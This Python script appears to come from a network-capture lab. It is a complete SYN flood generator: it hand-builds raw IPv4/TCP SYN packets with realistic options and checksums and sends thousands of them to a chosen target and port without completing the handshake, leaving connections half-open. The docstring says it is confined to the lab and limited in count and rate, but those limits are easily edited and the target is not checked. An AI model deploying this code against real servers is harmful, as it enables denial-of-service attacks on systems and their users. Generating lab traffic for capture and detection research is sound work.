#!/usr/bin/python3
"""Bounded SYN flood for the capture lab: raw IPv4/TCP SYNs from this namespace's own address,
each from a fresh source port, never followed by the handshake's ACK.

  syn_flood.py SRC_IP DST_IP DST_PORT COUNT RATE [SEED]

COUNT SYNs at RATE per second (both bounded: COUNT <= 20000, RATE <= 5000), then exits. Source
ports are a seeded permutation of 20000..59999, so no 4-tuple repeats. The kernel would answer
the server's SYN-ACKs with RST (no socket has those ports): the scenario drops them in the
client namespace (iptables INPUT) so every connection stays half-open, as in a real flood.
Needs CAP_NET_RAW (root in the lab namespace); sends only to DST_IP inside the lab.
"""
import random
import socket
import struct
import sys
import time


def checksum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def syn(src, dst, sport, dport, seq, ip_id):
    # TCP options as Linux sends them: MSS 1460, SACK permitted, timestamps, NOP, window scale 7.
    opts = struct.pack("!BBH", 2, 4, 1460) + struct.pack("!BB", 4, 2) + struct.pack("!BBII", 8, 10, seq & 0xFFFF, 0) \
        + struct.pack("!B", 1) + struct.pack("!BBB", 3, 3, 7)
    off = (20 + len(opts)) // 4
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, off << 4, 0x02, 64240, 0, 0) + opts
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), ip_id, 0x4000, 64, 6, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main():
    src, dst, dport = sys.argv[1], sys.argv[2], int(sys.argv[3])
    count = min(int(sys.argv[4]), 20000)
    rate = min(float(sys.argv[5]), 5000.0)
    rnd = random.Random(int(sys.argv[6]) if len(sys.argv) > 6 else 9)
    ports = list(range(20000, 60000))
    rnd.shuffle(ports)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    t0 = time.monotonic()
    deadline = t0 + count / rate + 10  # hard stop even if the machine is slow
    for i in range(count):
        due = t0 + i / rate
        now = time.monotonic()
        if now > deadline:
            break
        if due > now:
            time.sleep(due - now)
        s.sendto(syn(src, dst, ports[i], dport, rnd.getrandbits(32), rnd.getrandbits(16)), (dst, 0))
    print("sent %d SYNs to %s:%d in %.2f s" % (i + 1, dst, dport, time.monotonic() - t0))


if __name__ == "__main__":
    main()
